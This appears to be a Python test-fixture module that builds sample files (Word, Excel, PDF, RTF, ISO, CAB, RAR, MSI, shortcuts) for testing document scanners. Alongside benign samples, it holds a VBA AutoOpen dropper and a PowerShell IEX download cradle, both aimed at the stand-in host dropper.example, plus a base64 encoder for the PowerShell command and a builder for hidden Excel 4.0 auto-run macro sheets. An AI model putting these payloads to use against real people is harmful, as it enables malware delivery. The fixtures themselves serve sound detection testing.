"""Files made by hand for tests of the readers: harmless ones, and parts of what attackers send."""

import base64
import io
import struct
import tarfile
import zipfile
from typing import Final

from tests.documents import make_zip
from tests.outlook_messages import Tree, make_compound

TYPES: Final = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_RELATION_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
DROPPER: Final = (
    'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  Dim x, s\r\n'
    '  Set x = CreateObject("MSXML2.XMLHTTP")\r\n  x.Open "GET", "http://dropper.example/a.exe", False\r\n'
    '  Set s = CreateObject("WScript.Shell")\r\n  s.Run "cmd /c %TEMP%\\a.exe", 0\r\nEnd Sub\r\n'
)
HARMLESS_MACRO: Final = (
    'Attribute VB_Name = "Sums"\r\n'
    "Function AddTax(net As Double) As Double\r\n  AddTax = net * 1.19\r\nEnd Function\r\n"
)
COMMAND: Final = "IEX (New-Object Net.WebClient).DownloadString('http://dropper.example/p.ps1')"


def encode_command(text: str = COMMAND) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def compress_vba(data: bytes) -> bytes:
    """A compressed container (MS-OVBA 2.4.1) of literal tokens alone, in chunks that these fill."""
    output = bytearray(b"\x01")
    for start in range(0, len(data), 3_600):
        piece = data[start : start + 3_600]
        tokens = b"".join(b"\0" + piece[at : at + 8] for at in range(0, len(piece), 8))
        output += struct.pack("<H", 0xB000 | len(tokens) - 1) + tokens
    return bytes(output)


def make_vba_tree(source: str, *, compiled: bytes = b"", name: str = "ThisDocument") -> Tree:
    """The storages of a project with one module; `compiled` stands before its source."""
    code = name.encode()

    def record(number: int, body: bytes) -> bytes:
        return struct.pack("<HI", number, len(body)) + body

    directory = (
        record(0x0003, struct.pack("<H", 1252))
        + record(0x0004, b"Project")
        + struct.pack("<HIIH", 0x0009, 4, 1, 1)
        + record(0x0019, code)
        + record(0x001A, code)
        + record(0x0031, struct.pack("<I", len(compiled)))
    )
    return {
        "VBA": {
            "dir": compress_vba(directory),
            name: compiled + compress_vba(source.encode("cp1252")),
            "_VBA_PROJECT": b"\xcc\x61\xff\xff" + b"CreateObject\0Shell\0",
        }
    }


def make_doc(source: str = "", *, extra: Tree | None = None, compiled: bytes = b"") -> bytes:
    """A Word document of 1997 to 2003, with macros if there is a source."""
    tree: Tree = {"WordDocument": b"\xec\xa5" + b"Plain text of a letter. " * 40}
    if source:
        tree["Macros"] = make_vba_tree(source, compiled=compiled)
    return make_compound(tree | (extra or {}))


def make_package(parts: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {"[Content_Types].xml": TYPES, **parts}.items():
            # Without the time of now: the same parts give the same bytes.
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def make_docm(source: str) -> bytes:
    return make_package(
        {"word/document.xml": "<w:document/>", "word/vbaProject.bin": make_compound(make_vba_tree(source))}
    )


def make_relation(kind: str, target: str, *, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_RELATION_TYPES}{kind}" Target="{target}"{mode}/></Relationships>'
    )


def make_native(name: str, data: bytes) -> bytes:
    """An `Ole10Native` stream, as the Packager writes it."""
    path = f"c:\\temp\\{name}".encode() + b"\0"
    body = struct.pack("<H", 2) + name.encode() + b"\0" + path + struct.pack("<HHI", 0, 3, len(path)) + path
    body += struct.pack("<I", len(data)) + data
    return struct.pack("<I", len(body)) + body


def make_xls(command: str) -> bytes:
    """A workbook of BIFF 8 (MS-XLS) with a hidden sheet of Excel 4.0 macros: Auto_Open, a call of EXEC."""

    def record(number: int, body: bytes) -> bytes:
        return struct.pack("<HH", number, len(body)) + body

    label = struct.pack("<HBBHHHBBBBB", 0x20, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0) + b"\x01"
    expression = b"\x17" + bytes([len(command), 0]) + command.encode() + b"\x42\x01" + struct.pack("<H", 110)
    formula = struct.pack("<HHHQHIH", 0, 0, 0, 0, 0, 0, len(expression)) + expression
    stream = record(0x0809, struct.pack("<HH", 0x0600, 0x0005) + bytes(12))
    stream += record(0x0085, struct.pack("<IBBBB", 0, 1, 1, 6, 0) + b"Macro1")
    stream += record(0x0018, label) + record(0x0006, formula) + record(0x000A, b"")
    return make_compound({"Workbook": stream})


def make_lnk(target: str, arguments: str = "", icon: str = "") -> bytes:
    """A shortcut (MS-SHLLINK) with strings alone."""
    strings = [(0x08, target), (0x20, arguments), (0x40, icon)]
    flags = 0x80 | sum(bit for bit, text in strings if text)
    header = struct.pack(
        "<I16sIIQQQIIIHHII",
        0x4C,
        bytes.fromhex("0114020000000000c000000000000046"),
        flags,
        0x20,
        *(133_500_000_000_000_000,) * 3,
        0,
        0,
        1,
        *(0,) * 4,
    )
    texts = b"".join(struct.pack("<H", len(text)) + text.encode("utf-16-le") for _, text in strings if text)
    return header + texts + struct.pack("<I", 0)


def make_pdf_of(*bodies: str, header: bytes = b"%PDF-1.7\n") -> bytes:
    """Objects numbered from 1; the first is the catalog."""
    output, places = header, []
    for number, body in enumerate(bodies, start=1):
        places.append(len(output))
        output += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    size = len(bodies) + 1
    rest = f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer << /Size {size} /Root 1 0 R >>"
    return output + f"{rest}\nstartxref\n{len(output)}\n%%EOF\n".encode()


def make_rtf_object(class_name: bytes, data: bytes) -> bytes:
    """An RTF document with an object of OLE 1."""
    name = class_name + b"\0"
    native = struct.pack("<III", 0x0501, 2, len(name)) + name + bytes(8) + struct.pack("<I", len(data)) + data
    return b"{\\rtf1\\ansi Hello {\\object\\objemb\\objupdate{\\*\\objdata " + native.hex().encode() + b"}}}"


def make_iso(files: dict[str, bytes], *, hidden: bool = False) -> bytes:
    """ISO 9660 without extensions: the files in its root."""
    sector = 2048
    at, places = 20, {}
    for name, data in files.items():
        places[name] = at
        at += -(-len(data) // sector)

    def record(name: bytes, start: int, size: int, flags: int) -> bytes:
        body = struct.pack("<B", 0) + struct.pack("<I", start) + struct.pack(">I", start)
        body += struct.pack("<I", size) + struct.pack(">I", size) + bytes(7) + bytes([flags, 0, 0])
        body += struct.pack("<H", 1) + struct.pack(">H", 1) + bytes([len(name)]) + name
        body += b"\0" * (len(body) % 2 == 0)
        return bytes([len(body) + 1]) + body

    root = record(b"\0", 19, sector, 2) + record(b"\1", 19, sector, 2)
    for name, data in files.items():
        root += record(f"{name};1".encode(), places[name], len(data), int(hidden))
    descriptor = bytearray(b"\x01CD001\x01".ljust(sector, b"\0"))
    descriptor[40:72] = b"INVOICES".ljust(32)
    descriptor[156:190] = record(b"\0", 19, sector, 2).ljust(34, b"\0")[:34]
    output = bytes(16 * sector) + bytes(descriptor) + b"\xffCD001\x01".ljust(sector, b"\0") + bytes(sector)
    output += root.ljust(sector, b"\0")
    for data in files.values():
        output += data.ljust(-(-len(data) // sector) * sector, b"\0")
    return output


def make_cab(files: dict[str, bytes]) -> bytes:
    """One folder, packed with MSZIP in one block (MS-CAB)."""
    import zlib

    stream = b"".join(files.values())
    machine = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = b"CK" + machine.compress(stream) + machine.flush()
    entries, start = b"", 0
    for name, data in files.items():
        entries += struct.pack("<IIHHHH", len(data), start, 0, 0, 0, 0x20) + name.encode() + b"\0"
        start += len(data)
    files_at = 36 + 8
    data_at = files_at + len(entries)
    body = struct.pack("<IHH", 0, len(block), len(stream)) + block
    size = data_at + len(body)
    header = struct.pack("<4sIIIIIBBHHHHH", b"MSCF", 0, size, 0, files_at, 0, 3, 1, 1, len(files), 0, 0, 0)
    return header + struct.pack("<IHH", data_at, 1, 1) + entries + body


def make_rar(files: dict[str, bytes], *, compressed: bool = False) -> bytes:
    """RAR 5 without sums; members stored, or stated to be compressed."""

    def number(value: int) -> bytes:
        output = bytearray()
        while value >= 0x80:
            output.append(value & 0x7F | 0x80)
            value >>= 7
        return bytes([*output, value])

    def block(body: bytes) -> bytes:
        return bytes(4) + number(len(body)) + body

    output = b"Rar!\x1a\x07\x01\x00" + block(number(1) + number(0) + number(0))
    for name, data in files.items():
        body = number(2) + number(2) + number(len(data)) + number(0) + number(len(data)) + number(0)
        body += number(3 << 7 if compressed else 0) + number(0) + number(len(name.encode())) + name.encode()
        output += block(body) + data
    return output + block(number(5) + number(0) + number(0))


def make_tar(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return buffer.getvalue()


def make_onenote(*files: bytes) -> bytes:
    mark = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
    start = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1024)
    return start + b"".join(mark + struct.pack("<QIQ", len(each), 0, 0) + each + bytes(64) for each in files)


def encode_msi_name(name: str) -> str:
    """As `installer_tables.decode_name` reads it."""
    letters = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz._"
    is_table, name = name.startswith("!"), name.removeprefix("!")
    output = "\u4840" if is_table else ""
    for at in range(0, len(name), 2):
        pair = name[at : at + 2]
        if len(pair) == 2:
            output += chr(0x3800 + letters.index(pair[0]) + (letters.index(pair[1]) << 6))
        else:
            output += chr(0x4800 + letters.index(pair))
    return output


def make_msi(action: str, kind: int) -> bytes:
    """A database with one custom action. Tables are filled up to what `make_compound` pads streams to."""
    texts = ["CustomAction", "Action", "Type", "Source", "Target", "RunIt", action]
    texts += ["Property", "Value", "ProductName", "Viewer", "Filler"]
    number = {text: index for index, text in enumerate(texts, start=1)}
    columns = [
        ("CustomAction", 1, "Action", 0x2D48),
        ("CustomAction", 2, "Type", 0x0502),
        ("CustomAction", 3, "Source", 0x1D48),
        ("CustomAction", 4, "Target", 0x1DFF),
        ("Property", 1, "Property", 0x2D48),
        ("Property", 2, "Value", 0x0DFF),
    ]
    columns += [("Filler", at, "Value", 0x0502) for at in range(1, 507)]
    stored = [number[table] for table, *_ in columns] + [at | 0x8000 for _, at, *_ in columns]
    stored += [number[name] for *_, name, _ in columns] + [kind_of | 0x8000 for *_, kind_of in columns]
    nothing = 0
    actions = [[number["RunIt"], *(nothing,) * 511], [kind | 0x8000, *(0x8000 | 51,) * 511]]
    actions += [[nothing] * 512, [number[action], *(nothing,) * 511]]
    properties = [number["ProductName"], *(nothing,) * 1023, number["Viewer"], *(nothing,) * 1023]
    streams = {
        "!_StringPool": struct.pack("<HH", 1252, 0)
        + b"".join(struct.pack("<HH", len(text), 1) for text in texts),
        "!_StringData": "".join(texts).encode(),
        "!_Columns": struct.pack(f"<{len(stored)}H", *stored),
        "!CustomAction": b"".join(struct.pack("<512H", *column) for column in actions),
        "!Property": struct.pack("<2048H", *properties),
    }
    output = bytearray(make_compound({encode_msi_name(name): data for name, data in streams.items()}))
    # The class of the root entry, which is the first of the directory.
    output[592:608] = bytes.fromhex("84100c0000000000c000000000000046")
    return bytes(output)


def make_harmless() -> dict[str, bytes]:
    """By file name: what people send each other every day."""
    letter = '<w:document xmlns:w="w"><w:body><w:t>Dear all, the minutes.</w:t></w:body></w:document>'
    return {
        "minutes.docx": make_package({"word/document.xml": letter, "docProps/core.xml": "<c/>"}),
        "letter.doc": make_doc(),
        "table.xlsx": make_package({"xl/workbook.xml": "<workbook/>", "xl/worksheets/sheet1.xml": "<s/>"}),
        "taxes.docm": make_docm(HARMLESS_MACRO),
        "report.pdf": make_pdf_of(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            "<< /Length 30 >>\nstream\nBT /F1 8 Tf (Annual figures) Tj ET\nendstream",
        ),
        "photos.zip": make_zip({"one.txt": "first", "sub/two.txt": "second", "three.csv": "a,b\n1,2\n"}),
        "source.tar": make_tar({"src/main.py": b"import sys\nprint(sys.argv)\n", "README": b"How to build"}),
        "notes.rtf": b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Arial;}} The minutes of the meeting.\\par }",
        "page.html": b"<!doctype html><html><h1>Hello</h1><script>document.title='x'</script></html>",
        "setup.sh": b"#!/bin/sh\nset -e\nmkdir -p build\ncp -r src build/\necho done\n",
        "site.url": b"[InternetShortcut]\r\nURL=https://example.org/\r\n",
        "Editor.lnk": make_lnk("..\\..\\Program Files\\Editor\\editor.exe"),
        "feed.xml": b'<?xml version="1.0"?><feed><title>News</title></feed>',
        "notes.one": make_onenote(b"\x89PNG\r\n\x1a\n" + bytes(100)),
        "disc.iso": make_iso({"README.TXT": b"Welcome"}),
        "drivers.cab": make_cab({"driver.inf": b"[Version]\r\n", "readme.txt": b"Read me"}),
        "papers.rar": make_rar({"paper.txt": b"An essay"}),
        "viewer.msi": make_msi("ViewerDir", 51),
    }
